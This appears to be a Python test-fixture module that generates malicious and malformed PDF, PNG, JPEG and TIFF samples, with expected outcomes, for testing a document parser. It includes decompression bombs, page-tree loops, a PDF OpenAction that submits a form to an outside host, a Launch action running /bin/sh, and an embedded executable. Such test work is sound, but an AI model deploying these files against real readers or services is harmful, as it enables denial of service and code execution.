"""PDFs and images: loops, bombs, lies about size and number, scripts, passwords."""

import struct
import zlib
from collections.abc import Iterator

from zoo_base import CALL, OUTSIDE, OUTSIDE_FILE, STORED, Animal, animal, good

__all__ = ["animals", "pdf", "png"]

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def animals() -> Iterator[Animal]:
    """All of them."""
    yield from _pdfs()
    yield from _images()


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R", prev: bytes = b"") -> bytes:
    """A PDF of these objects with a table that tells where they are."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d %05d %s \n" % (places.get(number, 0), 0, b"n" if number in places else b"f")
    out += b"trailer\n<</Size %d %s%s>>\nstartxref\n%d\n%%%%EOF" % (
        size,
        trailer,
        prev.replace(b"START", b"%d" % start),
        start,
    )
    return bytes(out)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def _words(text: str) -> bytes:
    """A page's content: lines of plain letters, as the standard fonts have no others."""
    bare = text.encode("ascii", "ignore").decode().splitlines()
    lines = b"".join(b"(%s) Tj T*\n" % _literal(line) for line in bare)
    return b"BT /F1 10 Tf 12 TL 50 800 Td\n" + lines + b"ET"


def _literal(line: str) -> bytes:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode()


def _simple(content: bytes, catalog: bytes = b"", page: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"
            % page,
            4: _stream(content),
            5: _FONT,
            **(more or {}),
        }
    )


# Plain letters only: number, date and kind are enough to be a directive for the reader, or not to be one.
_LETTER = (
    "DANG UY PHUONG SONG TRAU\nSo 12-CV/DU\n\nKinh gui: Cac chi bo\n\n1. Cong an phuong ra soat truoc ngay 20/5/2026.\n"
    "\nNoi nhan:\n- Nhu tren\n\nT/M BAN THUONG VU\nBI THU\n\nNguyen Van A\n"
) * 3
_READ = (STORED, "not-a-directive")


def _pdfs() -> Iterator[Animal]:
    def made(name: str, data, *ends: str) -> Animal:
        return animal(name, data, *ends, form=".pdf")

    words = _words(_LETTER)
    action = b"/OpenAction<</S/%s/%s>>"
    yield made("tot.pdf", _simple(words), *_READ)
    yield made("rong.pdf", b"", "empty", "broken")
    yield made("cut.pdf", _simple(words)[:300], "broken", *_READ)
    yield made("rac.pdf", b"%PDF-1.7\n" + b"\xee" * 20_000, "broken")
    yield made("dau.pdf", b"%PDF-", "broken")
    yield made("txt.pdf", good(300).encode(), STORED, "broken")
    yield made(
        "js.pdf",
        _simple(
            words + b" ", action % (b"JavaScript", b"JS(app.alert\\(1\\);this.submitForm\\('%s'\\))" % CALL.encode())
        ),
        *_READ,
    )
    yield made("chay.pdf", _simple(words + b"  ", action % (b"Launch", b"F(/bin/sh)")), *_READ)
    yield made("duong-dan.pdf", _simple(words + b"   ", action % (b"URI", b"URI(%s)" % CALL.encode())), *_READ)
    yield made(
        "tep-ngoai.pdf",
        _simple(b"", more={4: b"<</Length 0/F(%s)>>\nstream\n\nendstream" % str(OUTSIDE_FILE).encode()}),
        "empty",
        "broken",
        "held",
        *_READ,
    )
    yield made("vong-trang.pdf", _loop(), "broken", "empty", "held")
    yield made("cha-con.pdf", _ring(), "broken", "empty", "held")
    yield made(
        "vong-xref.pdf",
        pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}, prev=b"/Prev START"),
        "broken",
        "empty",
    )
    yield made("trieu-trang.pdf", _million(), "too-many-pages", "too-large", "too-many", "broken")
    yield made("noi-trieu.pdf", _claims(words), "too-many-pages", "too-large", "too-many", "broken", *_READ)
    yield made(
        "to.pdf",
        _simple(words).replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"),
        "broken",
        "too-large",
        "empty",
        "held",
        *_READ,
    )
    yield made(
        "khong-co.pdf", _simple(words).replace(b"[0 0 595 842]", b"[0 0 0.0 -1]"), "broken", "empty", "held", *_READ
    )
    yield made("bom.pdf", _flate_bomb(), "broken", "empty", "held", "too-large", "too-heavy", "crashed")
    yield made("long.pdf", _simple(words, b"/X" + b"[" * 100_000 + b"]" * 100_000), "broken", "crashed", *_READ)
    yield made("tu-goi.pdf", _self_form(), "broken", "empty", "held", "too-slow", "crashed", *_READ)
    yield made("anh-to.pdf", _big_picture(30_000), "too-large", "broken", "empty", "held", "too-heavy", *_READ)
    yield made("khoa.pdf", _locked(), "encrypted")
    yield made("dinh-kem.pdf", _simple(words + b"    ", b"/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>",
               more={6: b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", 7: _stream(OUTSIDE.encode())}), *_READ)  # fmt: skip


def _loop() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4>>"})


def _ring() -> bytes:
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 9/Parent 3 0 R>>",
            3: b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>",
        }
    )


def _million() -> bytes:
    """A million pages in earnest: each level of the tree names one node a hundred times."""
    page = b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]>>"
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"3 0 R " * 100),
            3: b"<</Type/Pages/Parent 2 0 R/Kids[%s]/Count 10000>>" % (b"4 0 R " * 100),
            4: b"<</Type/Pages/Parent 3 0 R/Kids[%s]/Count 100>>" % (b"5 0 R " * 100),
            5: page,
        }
    )


def _claims(words: bytes) -> bytes:
    return _simple(words).replace(b"/Count 1>>", b"/Count 1000000>>")


def _flate_bomb() -> bytes:
    piece = zlib.compressobj(9)
    data = piece.compress(b"(a) Tj\n") + piece.flush(zlib.Z_FULL_FLUSH)
    body = piece.compress(b" " * 1_000_000) + piece.flush(zlib.Z_FULL_FLUSH)
    return _simple(b"", more={4: _stream(data + body * 2000 + piece.flush(zlib.Z_FINISH), b"/Filter/FlateDecode")})


def _self_form() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R/Y 7 0 R>>>>"
    used = b"/Resources<</XObject<</X 6 0 R/Y 7 0 R>>>>"
    return _simple(b"/X Do /Y Do", page=used, more={6: _stream(b"/Y Do /Y Do", form), 7: _stream(b"/X Do /X Do", form)})


def _big_picture(side: int) -> bytes:
    line = zlib.compress(b"\x00" * (side * side // 8), 1) if side < 10_000 else _zeros(side * side // 8)
    picture = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode"
        % (side, side)
    )
    used = b"/Resources<</XObject<</X 6 0 R>>>>"
    return _simple(b"595 0 0 842 0 0 cm /X Do", page=used, more={6: _stream(line, picture)})


def _zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    first = packer.compress(b"\x00") + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + body * (size // 1_000_000) + packer.flush(zlib.Z_FINISH)


def _locked() -> bytes:
    """Standard handler, revision 2, with keys that no password fits."""
    lock = b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"ab" * 32, b"cd" * 32)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        4: _stream(b"\x00\x01\x02"),
        5: lock,
    }
    return pdf(objects, b"/Root 1 0 R/Encrypt 5 0 R/ID[<00><00>]")


def png(width: int, height: int, data: bytes, more: bytes = b"") -> bytes:
    """A PNG of one bit a pixel that says it is so large."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _images() -> Iterator[Animal]:
    poor = ("held", "empty", "not-a-directive", "broken")

    def made(name: str, data, *ends: str) -> Animal:
        form = {"jpg": ".jpg", "tif": ".tif"}.get(name[-3:], ".png")
        return animal(name, data, *ends, form=form)

    yield made("rong.png", b"", "empty", "broken")
    noise = bytes((i * i * 31 + i // 7) % 256 for i in range(126 * 1400))
    yield made("cut.png", png(1000, 1400, zlib.compress(noise))[:20_000], "broken")
    yield made("den.png", lambda: png(1000, 1400, zlib.compress(b"\x00" * 126 * 1400)), *poor)
    yield made("30000.png", lambda: png(30_000, 30_000, _zeros(3751 * 30_000)), "too-large", "too-many-pixels")
    yield made("noi-to.png", lambda: png(2_000_000_000, 2_000_000_000, b""), "too-large", "broken", "too-many-pixels")
    yield made("khong.png", lambda: png(0, 0, zlib.compress(b"")), "broken", "empty")
    yield made("chu-bom.png", _chunk_bomb, *poor, "too-large")
    yield made("rong.jpg", b"", "empty", "broken")
    yield made(
        "cut.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xee" * 50, "broken"
    )
    yield made("65500.jpg", _jpeg(65_500), "too-large", "broken", "too-many-pixels")
    yield made("rong.tif", b"", "empty", "broken")
    yield made("cut.tif", b"II*\x00\x08\x00\x00\x00\xff\xff", "broken")
    yield made("30000.tif", _tiff(30_000, 0), "too-large", "broken", "too-many-pixels")
    yield made("vong.tif", _tiff(100, 8), *poor, "too-many-pages", "too-large", "too-many")


def _chunk_bomb() -> bytes:
    body = b"Comment\x00\x00" + _zeros(200_000_000)
    chunk = struct.pack(">L", len(body)) + b"zTXt" + body + struct.pack(">L", zlib.crc32(b"zTXt" + body))
    return png(1000, 1400, zlib.compress(b"\x00" * 126 * 1400), chunk)


def _jpeg(side: int) -> bytes:
    frame = struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0"
        + struct.pack(">H", 11)
        + frame
        + b"\xff\xd9"
    )


def _tiff(side: int, next_page: int) -> bytes:
    """One page of ``side`` by ``side`` bits, all in one strip of zeros that is not there; then the page at ``next_page``."""
    tags = [(256, 4, side), (257, 4, side), (258, 3, 1), (259, 3, 1), (262, 3, 1), (273, 4, 200), (277, 3, 1),
            (278, 4, side), (279, 4, side * side // 8)]  # fmt: skip
    page = struct.pack("<H", len(tags)) + b"".join(
        struct.pack("<HHLL", tag, kind, 1, value) for tag, kind, value in tags
    )
    data = bytes(side * side // 8) if side < 1000 else b""
    return b"II*\x00\x08\x00\x00\x00" + (page + struct.pack("<L", next_page)).ljust(192, b"\0") + data
